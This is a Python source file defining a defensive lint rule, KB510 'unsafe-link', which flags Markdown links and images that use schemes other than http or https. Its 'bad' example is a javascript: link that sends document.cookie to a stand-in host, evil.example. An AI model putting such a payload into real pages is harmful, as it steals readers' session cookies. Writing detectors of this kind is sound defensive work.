"""A link or image whose address is not one of the web."""

from collections.abc import Iterator
from typing import Final

from kb.checks.rule import Family, Finding, Inspection, Rule
from kb.entry import Source, scheme_of

_HARMLESS: Final = ("http", "https", "mailto")
"""An e-mail address in prose becomes a link by itself, and pages show it as text."""


def _check(source: Source, _: Inspection) -> Iterator[Finding]:
    for link in source.outline.links:
        scheme = scheme_of(link.target)
        if scheme and scheme not in _HARMLESS:
            thing = "image" if link.is_image else "link"
            message = f"{thing} to {link.target[:60]!r}: pages keep only http and https, not {scheme[:20]}"
            yield Finding(source.link_position(link), message, _HINT)


_HINT = "Write an address that starts with https://, the path of another entry, or put the text in backticks."

RULE = Rule(
    code="KB510",
    name="unsafe-link",
    family=Family.SAFETY,
    summary="A link or image has another scheme than http or https: `javascript:`, `data:`, `file:`.",
    why=(
        "A link with `javascript:` or `data:` runs what its writer likes, with the rights of the page. Pages drop "
        "every scheme but http and https, so that the reader would find a link that does nothing."
    ),
    fix="Link a page of the web or another entry, or show the address as code.",
    bad="[Repair it now](javascript:fetch('https://evil.example/'+document.cookie))",
    good="[How to repair it](https://docs.example.org/repair)",
    in_source=_check,
)
